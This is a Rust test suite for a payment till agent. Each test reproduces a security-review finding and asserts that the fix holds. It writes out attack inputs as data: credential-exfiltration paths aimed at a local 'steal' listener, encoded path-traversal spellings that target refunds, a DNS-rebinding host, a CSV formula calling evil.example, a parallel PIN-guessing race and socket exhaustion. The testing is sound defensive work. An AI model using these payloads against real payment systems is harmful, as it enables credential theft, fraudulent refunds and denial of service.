//! The findings of the security review (issue 18), each reproduced as first reported against the
//! real `till-agent` binary: they failed before the fixes and pass only with them.

use anyhow::{Context, Result};
use serde_json::{json, Value};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use till_tests::{init_body, pay, raw_http, sandbox_tx, start_agent_process, Env};

/// A listener on a port-0 socket that records every connection it receives (the attacker's host).
async fn trap() -> Result<(u16, Arc<Mutex<Vec<String>>>)> {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let port = listener.local_addr()?.port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = seen.clone();
    tokio::spawn(async move {
        use tokio::io::AsyncReadExt;
        while let Ok((mut s, _)) = listener.accept().await {
            let record = record.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 8192];
                let n = tokio::time::timeout(Duration::from_secs(2), s.read(&mut buf)).await.ok().and_then(|r| r.ok()).unwrap_or(0);
                record.lock().unwrap().push(String::from_utf8_lossy(&buf[..n]).into_owned());
            });
        }
    });
    Ok((port, seen))
}

/// Finding 1 (HIGH): a page could make the agent send the till's SensePass credential to any
/// host through the passthrough (`/api/http:127.0.0.1:19999/steal` with an https base).
#[tokio::test]
async fn passthrough_cannot_send_the_credential_elsewhere() -> Result<()> {
    let (port, seen) = trap().await?;
    let dir = tempfile::tempdir()?;
    std::fs::write(dir.path().join("none.toml"), "")?;
    let args: Vec<String> = [
        "--config", &dir.path().join("none.toml").display().to_string(),
        "--data-dir", &dir.path().display().to_string(),
        // An https base, as in production: `http:` then is another scheme to Url::join.
        "--sensepass-url", "https://127.0.0.1:9/api/",
        "--socket-url", "http://127.0.0.1:9",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let status = std::process::Command::new(till_tests::bin_path("till-agent")?)
        .args(["pair", "--device-id", "DEVICE-SECRET-1"])
        .args(&args)
        .stdout(std::process::Stdio::null())
        .status()?;
    assert!(status.success());
    let agent = start_agent_process(dir.path(), &args, &[])?;
    let evil = [
        format!("/api/http:127.0.0.1:{port}/steal"),
        format!("/api/https:127.0.0.1:{port}/steal"),
        format!("/api/http:%2f%2f127.0.0.1:{port}/steal"),
        format!("/api/%5c%5c127.0.0.1:{port}%5csteal"),
        format!("/api/\\\\127.0.0.1:{port}\\steal"),
        format!("/api//127.0.0.1:{port}/steal"),
        "/api/%2e%2e/%2e%2e/steal".to_string(),
        format!("/api/transactions/http:127.0.0.1:{port}"),
    ];
    for path in &evil {
        for (method, body) in [("GET", None), ("POST", Some("{}")), ("PUT", Some("{}")), ("DELETE", None)] {
            let (status, text) = raw_http(&agent.url, method, path, &[], body).await?;
            // Refused, or (a transaction number that merely looks like a host) looked up at the
            // SensePass base, which is down here: never an answer from the trap.
            let at_base = status == 503 && text.contains("sensepass_unreachable");
            assert!((400..500).contains(&status) || at_base, "{method} {path} → {status} {text}");
        }
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    let got = seen.lock().unwrap().clone();
    assert!(got.is_empty(), "the attacker's listener received: {got:?}");
    Ok(())
}

/// Finding 1, the offline banner: a refused or failed forward no longer marks SensePass offline.
#[tokio::test]
async fn a_refused_forward_is_4xx_and_keeps_sensepass_online() -> Result<()> {
    let env = Env::start().await?;
    for path in ["/api/foo..bar", "/api/transactions/a..b/c", "/api/unknown/path"] {
        let (status, body) = env.get(path).await?;
        assert_eq!(status, 400, "{path}: {body}");
        assert_eq!(body["invalid_parameters"][0]["parameter"], "path", "{body}");
    }
    let (_, health) = env.get("/api/agent/health").await?;
    assert_eq!(health["sensepassReachable"], true, "{health}");
    Ok(())
}

/// Finding 2 (HIGH): path spellings reached SensePass's refund, credit and cancel with no token,
/// no journal entry and no cap.
#[tokio::test]
async fn path_spellings_never_move_money() -> Result<()> {
    let env = Env::start().await?;
    let number = pay(&env, "SP-1", 5000).await?;
    let refund = json!({ "transactionNumber": number }).to_string();
    let credit = json!({ "token": "tok", "refundAmount": 1, "isCent": true }).to_string();
    let mut attempts: Vec<(String, Option<String>)> = Vec::new();
    for (op, body) in [("refund", &refund), ("credit", &credit)] {
        for spelling in [
            format!("/api/api/transactions/{op}"),
            format!("/api//transactions/{op}"),
            format!("/api/transactions/./{op}"),
            format!("/api/transactions/%2e/{op}"),
            format!("/api/transactions/%2E%2E/transactions/{op}"),
            format!("/api/x/../transactions/{op}"),
            format!("/api/transactions%2f{op}"),
            format!("/api/transactions/{}", op.replace('r', "%72")),
            format!("/api/transactions/{op}/"),
        ] {
            attempts.push((spelling, Some(body.clone())));
        }
    }
    for spelling in [
        format!("/api/api/transactions/cancel/{number}"),
        format!("/api//transactions/cancel/{number}"),
        format!("/api/transactions/./cancel/{number}"),
        format!("/api/transactions/%2e/cancel/{number}"),
        "/api/transactions/pay".to_string(),
        format!("/api/transactions/{number}/commit"),
        format!("/api/transactions/commitPayment/{number}"),
    ] {
        attempts.push((spelling, Some("{}".into())));
    }
    for (path, body) in &attempts {
        let (status, text) = raw_http(&env.agent.url, "POST", path, &[], body.as_deref()).await?;
        assert!(status == 400 || status == 401, "POST {path} → {status} {text}");
    }
    let truth = sandbox_tx(&env, &number).await?;
    assert_eq!(truth["_sandbox"]["refundedMinor"], 0, "{truth}");
    assert_eq!(truth["status"], 5, "{truth}");
    let (_, detail) = env.get(&format!("/api/agent/transactions/{number}")).await?;
    assert_eq!(detail["refundableMinor"], 5000, "{detail}");
    Ok(())
}

/// Finding 2: `PATCH /api/transactions/{n}` needed no token and was not journaled: a pending 50.00
/// payment was changed to 0.01 behind the journal's back.
#[tokio::test]
async fn patch_cannot_change_an_amount_behind_the_journal() -> Result<()> {
    let env = Env::start().await?;
    let (status, created) = env.post("/api/transactions/init", init_body("PA-1", 5000)).await?;
    assert_eq!(status, 200, "{created}");
    let number = created["TransactionNumber"].as_str().context("number")?.to_string();
    let path = format!("/api/transactions/{number}");
    let cut = json!({ "amount": 1, "isCent": true, "currency": "USD" });
    let r = env.http.patch(env.url(&path)).json(&cut).send().await?;
    assert_eq!(r.status().as_u16(), 401, "no token");
    let token = env.token()?;
    let r = env.http.patch(env.url(&path)).bearer_auth(&token).json(&cut).send().await?;
    let status = r.status().as_u16();
    let body: Value = r.json().await?;
    assert_eq!(status, 400, "not the open cart: {body}");
    assert_eq!(body["invalid_parameters"][0]["parameter"], "amount", "{body}");
    let r = env.http.patch(env.url(&path)).bearer_auth(&token).json(&json!({ "readyForPayment": true, "tip": 5 })).send().await?;
    let body: Value = r.json().await?;
    let named: Vec<&str> = body["invalid_parameters"].as_array().map(|a| a.iter().filter_map(|p| p["parameter"].as_str()).collect()).unwrap_or_default();
    assert!(named.contains(&"readyForPayment") && named.contains(&"tip"), "{body}");
    let truth = sandbox_tx(&env, &number).await?;
    assert_eq!(truth["amount"], "50", "{truth}");
    let (_, detail) = env.get(&format!("/api/agent/transactions/{number}")).await?;
    assert_eq!(detail["amountMinor"], 5000);
    Ok(())
}

/// Finding 1: the Origin check covered only requests with an Origin; a navigation or an `<img>`
/// from any page carries none. Browsers say where a request came from in Sec-Fetch-Site.
#[tokio::test]
async fn cross_site_requests_are_refused_on_every_route() -> Result<()> {
    let env = Env::start().await?;
    let number = pay(&env, "CS-1", 700).await?;
    let routes = [
        ("GET", "/".to_string()),
        ("GET", "/api/devices".to_string()),
        ("GET", "/api/agent/health".to_string()),
        ("GET", "/api/transactions/last".to_string()),
        ("GET", format!("/api/transactions/{number}")),
        ("GET", "/api/agent/transactions.csv".to_string()),
        ("GET", format!("/api/agent/transactions/{number}/receipt.pdf")),
        ("GET", "/api/agent/qr.svg?data=x".to_string()),
        ("POST", "/api/transactions/init".to_string()),
        ("POST", format!("/api/transactions/cancel/{number}")),
    ];
    for site in ["cross-site", "same-site"] {
        for (method, path) in &routes {
            let body = (*method == "POST").then_some("{\"amount\":1,\"currency\":\"USD\",\"isCent\":true}");
            let (status, text) = raw_http(&env.agent.url, method, path, &[("Sec-Fetch-Site", site)], body).await?;
            assert_eq!(status, 403, "{method} {path} ({site}) → {text}");
        }
    }
    for site in ["same-origin", "none"] {
        let (status, _) = raw_http(&env.agent.url, "GET", "/api/devices", &[("Sec-Fetch-Site", site)], None).await?;
        assert_eq!(status, 200, "{site}");
    }
    // The desktop webview's fetches carry its allow-listed Origin.
    let (status, _) =
        raw_http(&env.agent.url, "GET", "/api/devices", &[("Sec-Fetch-Site", "cross-site"), ("Origin", "tauri://localhost")], None).await?;
    assert_eq!(status, 200);
    // DNS rebinding with any route.
    let (status, _) = raw_http(&env.agent.url, "GET", "/", &[("Host", "rebind.evil.example")], None).await?;
    assert_eq!(status, 403);
    let truth = sandbox_tx(&env, &number).await?;
    assert_eq!(truth["status"], 5);
    // The UI may not be framed, sniffed or run foreign script.
    let r = env.http.get(env.url("/")).send().await?;
    let csp = r.headers()["content-security-policy"].to_str()?.to_string();
    assert!(csp.contains("frame-ancestors 'none'") && csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"), "{csp}");
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    Ok(())
}

/// Finding 3 (MEDIUM): card number, CVV and social ID of a server-to-server payment were stored in
/// plain text in the journal's request JSON.
#[tokio::test]
async fn card_data_never_reaches_the_journal_file() -> Result<()> {
    let env = Env::start().await?;
    let mut body = init_body("CARD-1", 1250);
    body["paymentDetails"] = json!({ "creditCard": { "cardNumber": "4111111111111111", "cvv": "737", "expiration": "11/29", "socialID": "123456782" } });
    let (status, created) = env.post("/api/transactions/init", body).await?;
    assert!(status < 500, "{status} {created}");
    // Whatever the answer, the journal file (WAL included) holds none of it.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut bytes = Vec::new();
    for entry in std::fs::read_dir(env.data_dir.path())? {
        let path = entry?.path();
        if path.is_file() && path.file_name().and_then(|n| n.to_str()).map(|n| n.starts_with("journal")).unwrap_or(false) {
            bytes.extend(std::fs::read(&path)?);
        }
    }
    let text = String::from_utf8_lossy(&bytes);
    assert!(text.contains("CARD-1"), "the payment was journaled");
    for secret in ["4111111111111111", "\"737\"", "11/29", "123456782"] {
        assert!(!text.contains(secret), "{secret} reached the journal file");
    }
    let log = std::fs::read_to_string(&env.agent.log)?;
    assert!(!log.contains("4111111111111111") && !log.contains("123456782"), "card data in the log");
    Ok(())
}

/// Finding 4 (MEDIUM): the PIN lockout could be raced (41 parallel guesses verified 20 PINs), the
/// first PIN could be set by anyone, and the lock did not survive a restart.
#[tokio::test]
async fn manager_pin_cannot_be_raced_or_claimed() -> Result<()> {
    let mut env = Env::start().await?;
    let (status, body) = env.post("/api/agent/manager/pin", json!({ "pin": "2468" })).await?;
    assert_eq!(status, 409, "the first PIN is not set through the page: {body}");
    assert_eq!(env.get("/api/agent/manager").await?.1["pinSet"], false);
    env.set_manager_pin("2468")?;
    let guesses = (0..41).map(|i| {
        let env = &env;
        async move { env.post("/api/agent/manager/login", json!({ "pin": format!("{:04}", 1000 + i) })).await }
    });
    let answers = futures_util::future::join_all(guesses).await;
    let mut wrong = 0;
    let mut locked = 0;
    for a in answers {
        let (status, body) = a?;
        assert_eq!(status, 401, "{body}");
        let title = body["title"].as_str().unwrap_or_default();
        if title.contains("too many") {
            locked += 1;
        } else {
            wrong += 1;
        }
    }
    assert_eq!(wrong, 5, "only five PINs may be tried before the lock ({locked} locked)");
    let (status, body) = env.post("/api/agent/manager/login", json!({ "pin": "2468" })).await?;
    assert_eq!(status, 401, "locked even for the right PIN: {body}");
    env.restart_agent().await?;
    let (status, body) = env.post("/api/agent/manager/login", json!({ "pin": "2468" })).await?;
    assert!(status == 401 && body["title"].as_str().unwrap_or_default().contains("too many"), "the lock survives a restart: {body}");
    Ok(())
}

/// Finding 6: manager sessions lasted 12 h with no server-side logout.
#[tokio::test]
async fn manager_sessions_end_on_logout() -> Result<()> {
    let env = Env::start().await?;
    env.set_manager_pin("1357")?;
    let (status, body) = env.post("/api/agent/manager/login", json!({ "pin": "1357" })).await?;
    assert_eq!(status, 200, "{body}");
    assert!(body["idleSeconds"].as_u64().unwrap_or(u64::MAX) <= 15 * 60, "{body}");
    let token = body["token"].as_str().context("token")?.to_string();
    let r = env.http.get(env.url("/api/agent/settings")).bearer_auth(&token).send().await?;
    assert_eq!(r.status().as_u16(), 200);
    let r = env.http.post(env.url("/api/agent/manager/logout")).bearer_auth(&token).send().await?;
    assert_eq!(r.status().as_u16(), 200);
    let r = env.http.get(env.url("/api/agent/settings")).bearer_auth(&token).send().await?;
    assert_eq!(r.status().as_u16(), 401, "the session ended on the server");
    Ok(())
}

/// The device ID is a SensePass credential (whoever holds it can create payments for the
/// register): health shows it in full only to the POS token or a manager session — never to a
/// caller without one, a wrong token, or a session that was logged out.
#[tokio::test]
async fn health_shows_the_device_id_only_to_a_credential() -> Result<()> {
    let env = Env::start().await?;
    env.set_manager_pin("2580")?;
    let health = |token: Option<String>| {
        let mut r = env.http.get(env.url("/api/agent/health"));
        if let Some(t) = token {
            r = r.bearer_auth(t);
        }
        async move { Ok::<Value, anyhow::Error>(r.send().await?.error_for_status()?.json::<Value>().await?) }
    };
    let tail: String = env.device_id.chars().skip(env.device_id.chars().count() - 4).collect();
    let masked = format!("•••• {tail}");
    for (who, token) in [("no credential", None), ("a wrong token", Some("0".repeat(64)))] {
        let h = health(token).await?;
        assert_eq!(h["deviceId"], masked.as_str(), "{who}: {h}");
        assert_eq!(h["deviceIdMasked"], true, "{who}");
        assert!(!h.to_string().contains(&env.device_id), "{who}: the device ID leaked: {h}");
    }
    let h = health(Some(env.token()?)).await?;
    assert_eq!(h["deviceId"], env.device_id.as_str(), "the POS token: {h}");
    assert_eq!(h["deviceIdMasked"], false);
    let (_, login) = env.post("/api/agent/manager/login", json!({ "pin": "2580" })).await?;
    let session = login["token"].as_str().context("session")?.to_string();
    assert_eq!(health(Some(session.clone())).await?["deviceId"], env.device_id.as_str(), "a manager session");
    env.http.post(env.url("/api/agent/manager/logout")).bearer_auth(&session).send().await?.error_for_status()?;
    assert_eq!(health(Some(session)).await?["deviceId"], masked.as_str(), "a logged-out session");
    Ok(())
}

/// Finding 5 (MEDIUM/LOW): with no header-read timeout and no connection cap, 1,100 idle sockets
/// at a 1024 file-descriptor limit made health and init time out (EMFILE).
#[tokio::test]
async fn idle_sockets_do_not_starve_the_api() -> Result<()> {
    let env = Env::start().await?;
    let dir = tempfile::tempdir()?;
    let mut args = env.common_args();
    // A second agent on the same sandbox device, under a 1024 open-file limit (soft and hard).
    let data = dir.path().display().to_string();
    let i = args.iter().position(|a| a == "--data-dir").context("--data-dir")?;
    args[i + 1] = data.clone();
    let c = args.iter().position(|a| a == "--config").context("--config")?;
    args[c + 1] = dir.path().join("none.toml").display().to_string();
    std::fs::write(dir.path().join("none.toml"), "")?;
    let status = std::process::Command::new(till_tests::bin_path("till-agent")?)
        .args(["pair", "--device-id", &env.device_id])
        .args(&args)
        .stdout(std::process::Stdio::null())
        .status()?;
    assert!(status.success());
    let agent = start_agent_process(dir.path(), &args, &["prlimit", "--nofile=1024:1024"])?;
    let addr = agent.url.trim_start_matches("http://").to_string();
    let mut idle = Vec::new();
    for _ in 0..1100 {
        if let Ok(s) = tokio::net::TcpStream::connect(&addr).await {
            idle.push(s);
        }
    }
    let started = Instant::now();
    let http = reqwest::Client::builder().timeout(Duration::from_secs(2)).build()?;
    let mut ok = false;
    while started.elapsed() < Duration::from_secs(20) {
        if let Ok(r) = http.get(format!("{}/api/agent/health", agent.url)).send().await {
            if r.status().is_success() {
                ok = true;
                break;
            }
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(ok, "health did not answer within 20 s with 1,100 idle sockets open");
    let r = http.post(format!("{}/api/transactions/init", agent.url)).json(&init_body("FD-1", 100)).send().await?;
    assert!(r.status().as_u16() < 500, "init: {}", r.status());
    drop(idle);
    Ok(())
}

/// Finding 6 (LOW): huge amounts, digits silently dropped, CSV formulas, log file modes.
#[tokio::test]
async fn amounts_csv_and_logs() -> Result<()> {
    let env = Env::start().await?;
    for body in [
        format!("{{\"amount\": {}, \"isCent\": true, \"currency\": \"USD\"}}", i64::MAX),
        "{\"amount\": 1000000001, \"isCent\": true, \"currency\": \"USD\"}".to_string(),
        "{\"amount\": 125.0000000000000000001, \"isCent\": true, \"currency\": \"USD\"}".to_string(),
        "{\"amount\": 12345678901234567890123, \"isCent\": true, \"currency\": \"USD\"}".to_string(),
    ] {
        let (status, text) = raw_http(&env.agent.url, "POST", "/api/transactions/init", &[], Some(&body)).await?;
        assert_eq!(status, 400, "{body} → {text}");
        let v: Value = serde_json::from_str(&text)?;
        assert_eq!(v["invalid_parameters"][0]["parameter"], "amount", "{text}");
    }
    let (_, journal) = env.get("/api/agent/transactions").await?;
    assert_eq!(journal["total"], 0, "nothing journaled: {journal}");
    let formula = "=HYPERLINK(\"http://evil.example\",\"x\")";
    let mut body = init_body("x", 100);
    body["posData"]["orderId"] = json!(formula);
    let (status, created) = env.post("/api/transactions/init", body).await?;
    assert_eq!(status, 200, "{created}");
    env.set_manager_pin("2468")?;
    let (_, login) = env.post("/api/agent/manager/login", json!({ "pin": "2468" })).await?;
    let manager = login["token"].as_str().unwrap_or_default().to_string();
    let csv = env.http.get(env.url("/api/agent/transactions.csv")).bearer_auth(&manager).send().await?.text().await?;
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    let (status, _) = env.get("/api/agent/summary").await?;
    assert_eq!(status, 200);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let logs = env.data_dir.path().join("logs");
        let mut seen = 0;
        for entry in std::fs::read_dir(&logs)? {
            let mode = entry?.metadata()?.permissions().mode() & 0o777;
            assert_eq!(mode & 0o077, 0, "a log file is readable by others: {mode:o}");
            seen += 1;
        }
        assert!(seen > 0, "no log file in {}", logs.display());
    }
    Ok(())
}

/// An idle keep-alive connection is closed after 5 s, and every answer announces a shorter time
/// (`Keep-Alive: timeout=4`) so that a pooling client drops it first instead of racing the close.
#[tokio::test]
async fn idle_connections_are_announced_and_closed() -> Result<()> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let env = Env::start().await?;
    let r = env.http.get(env.url("/api/agent/health")).send().await?;
    assert_eq!(r.headers().get("keep-alive").and_then(|v| v.to_str().ok()), Some("timeout=4"));
    let addr = env.agent.url.trim_start_matches("http://").to_string();
    let mut s = tokio::net::TcpStream::connect(&addr).await?;
    s.write_all(format!("GET /api/agent/health HTTP/1.1\r\nHost: {addr}\r\n\r\n").as_bytes()).await?;
    let mut buf = vec![0u8; 8192];
    let n = s.read(&mut buf).await?;
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("HTTP/1.1 200"), "first answer");
    // Still open after 3 s of silence, closed (EOF) well before 9 s.
    let early = tokio::time::timeout(Duration::from_secs(3), s.read(&mut buf)).await;
    assert!(early.is_err(), "closed before the announced idle time: {early:?}");
    let closed = tokio::time::timeout(Duration::from_secs(6), s.read(&mut buf)).await;
    assert!(matches!(closed, Ok(Ok(0)) | Ok(Err(_))), "an idle connection stays open: {closed:?}");
    Ok(())
}
